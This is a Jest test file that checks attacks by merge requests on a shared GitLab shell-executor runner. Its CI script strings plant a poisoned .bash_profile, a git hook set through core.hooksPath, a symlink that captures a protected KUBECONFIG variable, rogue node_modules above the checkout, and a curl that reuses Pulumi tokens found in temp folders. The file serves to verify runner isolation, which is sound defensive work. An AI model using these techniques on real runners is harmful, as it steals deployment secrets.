import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { flow } from "../flows";
import { type ChannelWorld, createChannelWorld } from "./channelWorld";
import type { JobRow } from "./gitlabClient";
import { type LegitPlugin, serveLegitPlugin } from "./legitPlugin";
import { pushReviewed } from "./pipelines";

/**
 * Attacks that no CI file can prevent on a runner with GitLab's shell executor. Such a runner must not serve both merge
 * requests and protected refs. All of its jobs run as one user of one machine. The table leaves these attacks out.
 */
let plugin: LegitPlugin;
let world: ChannelWorld;
/** The jobs of the merge request. */
let jobs: readonly JobRow[];

jest.setTimeout(300_000);

const secret = "kept-runner-file-variable";

beforeAll(async () => {
  plugin = await serveLegitPlugin();
  world = await createChannelWorld(flow("eight lines"), plugin);
  const { gitlab, places, sandbox } = world;
  const variable = { key: "KUBECONFIG", value: secret, variable_type: "file", protected: true };
  await gitlab.call("platform", "POST", "variables", variable);
  await world.push("developer", "topic", { ".gitlab-ci.yml": mergeRequestFile(places.trapLog, places.traps) });
  const opened = { source_branch: "topic", target_branch: "main", title: "Topic" };
  await gitlab.call("developer", "POST", "merge_requests", opened);
  await sandbox.settled();
  jobs = await gitlab.jobs(await gitlab.newestPipeline());
  world.keepRunner();
  await pushReviewed(world);
  await start("look", "retry");
});

afterAll(async () => {
  await world.close();
  await plugin.close();
});

test("a login profile left by a merge request runs before the first line of the CI file", () => {
  expect(readers(".bash_profile")).toContain("deploy-staging");
});

test("the runner's own git reads the git settings that a merge request left in the home folder", () => {
  expect(readers(".gitconfig")).toContain("deploy-staging");
});

test("the runner writes a file variable through a link that a merge request left", () => {
  expect(readFileSync(join(world.places.traps, "KUBECONFIG"), "utf8")).toBe(secret);
});

test("a later job of a merge request finds no deployment token in the runner's temporary folder", () => {
  const found = join(world.places.traps, "credentials");
  expect(existsSync(found) ? readFileSync(found, "utf8") : "").not.toContain("shop-api-staging");
});

test("a deployment fails where a merge request left packages above the checkout, where Node.js would find them", async () => {
  await start("above", "play");
  world.keepRunner();
  await pushReviewed(world);
  const reviewed = await world.gitlab.jobs(await world.gitlab.newestPipeline());
  const deployment = reviewed.find(({ name }) => name === "deploy-staging");

  expect(deployment?.status).toBe("failed");
  expect(deployment && (await world.gitlab.log(deployment))).toMatch(
    /left these files in the builds folder.*\/node_modules/,
  );
  expect(readers("node_modules")).toEqual([]);
});

/** Starts a job of the merge request, as its developer. */
async function start(name: string, how: "play" | "retry"): Promise<void> {
  await world.gitlab.call("developer", "POST", `jobs/${jobs.find((job) => job.name === name)?.id ?? 0}/${how}`);
  await world.sandbox.settled();
}

function readers(what: string): readonly string[] {
  return world.places.executedTraps().flatMap((line) => (line.what === what ? [line.reader] : []));
}

function mergeRequestFile(trapLog: string, traps: string): string {
  const line = (what: string): string => `echo "home folder|${what}|leave|$CI_JOB_NAME" >> ${trapLog}`;
  const appended = `"workspace|node_modules|leave|" + process.env.CI_JOB_NAME + "\\n"`;
  const script = [
    // The function is defined before GitLab's variables are set. It gets the arguments of the login, and so the ID
    // token.
    `cat > ~/.bash_profile <<'END'\npulumi() { ${line(".bash_profile")}; command pulumi "$@"; }\nEND`,
    `mkdir -p ${traps}/hooks`,
    `cat > ${traps}/hooks/reference-transaction <<'END'\n#!/bin/sh\n${line(".gitconfig")}\nEND`,
    `chmod +x ${traps}/hooks/reference-transaction`,
    `git config --global core.hooksPath ${traps}/hooks`,
    `ln -s ${traps}/KUBECONFIG "$RUNNER_TEMP_PROJECT_DIR/KUBECONFIG"`,
  ];
  const above = [
    'mkdir -p "$CI_BUILDS_DIR/node_modules/optional-dependency"',
    `cat > "$CI_BUILDS_DIR/node_modules/optional-dependency/index.js" <<'END'\nrequire("node:fs").appendFileSync("${trapLog}", ${appended});\nEND`,
  ];
  const token =
    'curl -s -H "authorization: token $(grep -o "pul-[A-Za-z0-9]*" "$file" | head -n 1)" "$PULUMI_BACKEND_URL/api/user"';
  const look = `for file in "$TMPDIR"/tmp.*/.pulumi/credentials.json; do [ ! -f "$file" ] || ${token} >> ${traps}/credentials; done`;
  return [
    "workflow: { rules: [{ if: '$CI_PIPELINE_SOURCE == \"merge_request_event\"' }] }",
    `leave: { script: ${JSON.stringify(script)} }`,
    `look: { script: ${JSON.stringify([look])} }`,
    `above: { rules: [{ when: manual, allow_failure: true }], script: ${JSON.stringify(above)} }`,
    "",
  ].join("\n");
}
